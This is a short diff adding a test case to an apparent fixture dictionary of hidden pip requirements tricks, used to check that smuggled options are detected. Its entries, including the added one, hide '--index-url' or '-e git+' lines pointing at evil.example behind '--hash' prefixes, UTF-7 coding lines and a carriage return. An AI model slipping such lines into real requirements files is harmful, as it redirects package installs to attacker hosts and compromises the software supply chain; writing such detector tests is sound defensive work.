@@ -942,6 +942,7 @@ HIDDEN_REQUIREMENTS = {
     "leading --hash hides -e": " --hash=sha256:00 -e git+https://evil.example/x.git#egg=x\n",
     "leading --hash hides --index-url": "  --hash=sha256:00 --index-url https://evil.example/simple\nnumpy\n",
     "utf-7 coding line": "# coding: utf-7 +AAo---index-url https://evil.example/simple+AAo-x @ https://evil.example/x.whl\n",
+    "utf-7 coding line after a CR": "x\r# coding: utf-7 +AAo---index-url https://evil.example/simple+AAo-\n",
 }
 
 
